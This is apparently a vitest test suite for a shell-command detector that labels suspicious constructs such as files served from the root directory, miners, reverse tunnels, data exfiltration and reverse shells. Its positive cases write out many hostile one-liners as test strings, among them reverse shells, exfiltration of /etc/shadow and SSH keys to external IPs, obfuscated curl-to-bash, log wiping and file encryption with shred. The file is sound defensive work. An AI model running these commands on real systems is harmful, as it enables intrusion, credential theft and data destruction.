import { describe, expect, test } from 'vitest';
import { suspiciousConstructs } from '../../source/parsers/suspicious-constructs.ts';

const kinds = (text: string) => suspiciousConstructs(text).filter(({ severity }) => severity !== 'low' && severity !== 'info').map(({ kind, severity }) => `${severity} ${kind}`);

describe('folders shown to whoever asks', () => {
	test.each(['cd / && nohup python3 -m http.server 8000 &', 'python3 -m http.server --directory=/etc 80', '/usr/bin/env python3 -m http.server -d /root/', 'cd /root; python -m SimpleHTTPServer', 'busybox httpd -f -p 8080 -h /', "sh -c 'cd /etc; exec php -S 0.0.0.0:81'", 'php -S 0.0.0.0:80 -t //'])('%s', text => {
		expect(kinds(text)).toEqual(['high files-served']);
	});
	test.each(['python3 -m http.server 8000', 'cd /; cd /srv/www && python3 -m http.server', 'cd / && python3 -m http.server -d /srv/pub', 'cd "$DIR" && python3 -m http.server', 'python3 -m http.server -d / -b 127.0.0.1', 'cd /; php -S 0.0.0.0:80 /srv/app/router.php', 'php -S localhost:8000 -t /', 'cd /; php artisan serve', 'cd /root; httpd -k start', 'busybox httpd -p 127.0.0.1:80 -h /', 'echo python3 -m http.server -d /', 'cd /; python3 -m venv x'])('is nothing to tell in %s', text => {
		expect(kinds(text)).toEqual([]);
	});
});

test.each(['/opt/.cache/rcu_tasks -o 198.51.100.61:14444 -u x --coin monero -k -B', './k --algo=rx/0 -o 198.51.100.61:1', 'pkill -9 kinsing', 'killall -9 kdevtmpfsi xmrig'])('miners: %s', text => {
	expect(kinds(text)).toContain('high miner');
});
test.each(['pkill -9 nginx', 'coin --list', 'convert --algo md5 monero.png', 'grep kinsing /var/log/syslog'])('no miners: %s', text => {
	expect(kinds(text)).toEqual([]);
});

describe('tunnels that let somebody in', () => {
	test.each([
		['gs-netcat -s secret -l -i -q', 'high reverse-tunnel'], ['exec -a sshd /usr/bin/gs-netcat -liqs x', 'high reverse-tunnel'], ['chisel client https://203.0.113.9 R:socks', 'high reverse-tunnel'], ['./agent -connect 203.0.113.9:11601 -ignore-cert', 'high reverse-tunnel'],
		['wstunnel client -R tcp://2222:localhost:22 wss://203.0.113.9', 'high reverse-tunnel'], ['frpc -c /etc/frp/frpc.ini', 'medium reverse-tunnel'], ['ngrok tcp 22 --log=stdout', 'medium reverse-tunnel'], ['cloudflared tunnel --url ssh://localhost:22', 'medium reverse-tunnel'], ['bore local 22 --to bore.pub', 'medium reverse-tunnel'], ['iodine -f -P x t.example.net', 'medium reverse-tunnel'], ['tmate -F', 'medium reverse-tunnel'],
		['/usr/lib/snapd/snap-relay client --auth u:p https://edge.example:443 R:1080:socks R:10022:127.0.0.1:22', 'high reverse-tunnel'], ['/usr/lib/kmod/kmodsync tunnel --no-autoupdate run --token eyJhIjoi', 'high reverse-tunnel'], ['/usr/bin/ntpd-gw -L=socks5://u:p@:31080 -F=relay+wss://203.0.113.99:443', 'medium reverse-tunnel'],
		["PROMPT_COMMAND='(history 1 | curl -s -F c=@- http://log.example/k &)'", 'high data-sent'], ['curl -sk https://203.0.113.44:8443/p --data-binary @/proc/self/environ', 'medium data-sent'],
	])('%s', (text, expected) => {
		expect(kinds(text)).toContain(expected);
	});
	test.each(['cloudflared tunnel run --token x', 'cloudflared tunnel --config /etc/cloudflared/config.yml run', 'agent --connect db.example.com', 'ssh -N -R 8080:localhost:80 ann@bastion.example.com', 'gost', 'iodine', 'echo chisel client R:socks', 'ngrok config check', 'npc'])('not %s', text => {
		expect(kinds(text)).toEqual([]);
	});
});

describe('what leaves the host', () => {
	test.each([
		['tar cz /etc /root/.ssh | curl -s -T - http://203.0.113.9/u', 'high data-sent'],
		['tar cz /srv/data | curl -s -T - http://203.0.113.9/u', 'medium data-sent'],
		['tar cz /etc/shadow /home/*/.ssh 2>/dev/null | curl -s -F chat_id=-1 -F document=@- https://api.chat.example/bot1:A/sendDocument', 'high data-sent'],
		['for f in /etc/shadow /root/.ssh/id_*; do gzip -c $f | xxd -p -c 28 | while read l; do dig +short $n.$l.q.ns.example.top >/dev/null; done; done', 'high data-sent'],
		['ps() { command ps "$@" | command grep -v -e kdm -e x; }', 'high listing-cut'],
		['/usr/bin/systemctl "$@" | sed \'/kdmpsync/d;/lpd/d\'', 'high listing-cut'],
		['find /srv -type f -print0 | xargs -0 -I{} sh -c \'openssl enc -aes-256-ctr -in "{}" -out "{}.q" && shred -u "{}"\'', 'high files-encrypted'],
		['/bin/sed -i "/203.0.113/d" /var/log/auth.log', 'high log-wiped'],
		['chmod 4755 /usr/bin/perl5.36.0', 'high setuid-made'],
		['perl -e \'my $f=syscall(319,"",1);print $h `curl -s http://203.0.113.7/m`;exec{"/proc/$$/fd/$f"}"[kworker]"\'', 'high decoded-run'],
		['curl -s -F f=@/etc/shadow http://203.0.113.9/u', 'high data-sent'],
		['curl --data-binary @/etc/shadow https://collect.example.net/u', 'medium data-sent'],
		['wget --post-file=/root/.ssh/id_rsa http://203.0.113.9/', 'high data-sent'],
		['nc 203.0.113.9 53 < /etc/shadow', 'high data-sent'],
		['cp /etc/shadow /var/www/html/s.txt', 'high data-sent'],
		['install -m 644 /root/.ssh/id_ed25519 /var/tmp/k', 'high data-sent'],
		["trap 'logger -t cmd \"$BASH_COMMAND\"; echo \"$BASH_COMMAND\" > /dev/udp/203.0.113.9/53' DEBUG", 'high data-sent'],
		["trap 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1' EXIT", 'critical reverse-shell'],
		["perl -MIO::Socket -e '$c=IO::Socket::INET->new(\"203.0.113.9:8443\");while(<$c>){print $c `$_`}'", 'critical reverse-shell'],
		['timeout 3500 tcpdump -i any -w /var/tmp/.c.pcap port 21', 'high sniffer-run'],
		['xterm -display 203.0.113.9:1', 'high reverse-shell'],
		["zsh -c 'zmodload zsh/net/tcp && ztcp 203.0.113.9 4444 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'", 'critical reverse-shell'],
		['node -e "require(\'child_process\').exec(\'nc -e /bin/sh 203.0.113.9 4444\')"', 'critical reverse-shell'],
		["a=cu;b=rl;$a$b -s http://203.0.113.9/k|ba''sh", 'high download-run'],
	])('%s', (text, expected) => {
		expect(kinds(text)).toContain(expected);
	});

	test.each([
		['tar cz /home/ada | ssh nas "cat > a.tgz"'],
		['cp -p /etc/shadow /var/backups/shadow.bak'],
		['timeout 5 bash -c "exec 3<>/dev/tcp/127.0.0.1/8080" || systemctl restart apache2'],
		['ps aux | grep -v root'],
		['command ls "$@" | grep x'],
		['sed -i s/a/b/ /var/log/app/own.log'],
		['find /srv -name "*.tmp" -exec rm {} +'],
		['openssl enc -aes-256-cbc -in a -out b'],
		['dig +short $host.example.com'],
		['cp /etc/ssh/ssh_host_rsa_key /srv/image/etc/ssh/'],
		["trap 'logger -p local1.notice \"$USER $BASH_COMMAND\"' DEBUG"],
		["trap 'rm -rf \"$work\"' EXIT"],
		["node -e 'net.connect(80, h, () => console.log(`up ${h}`))'"],
		['curl -fsS -T report.csv https://files.example.org/in/'],
		['pg_dump app | curl -T - http://10.0.0.9/dumps/app.sql'],
		['rsync -a /etc/ backup@nas.example.org:etc/'],
		['tcpdump -i eth0 -w /root/capture.pcap port 53'],
		['tcpdump -n -i eth0 > /dev/null'],
		['xterm -display :0'],
		['CURL=curl; $CURL -s https://example.org/x -o /srv/x'],
		['a=1;b=2; echo $a$b'],
		['systemctl -q is-active clamav-daemon && systemctl kill --signal=SIGHUP clamav-daemon || true'],
	])('is nothing to tell in %s', text => {
		expect(kinds(text)).toEqual([]);
	});
});
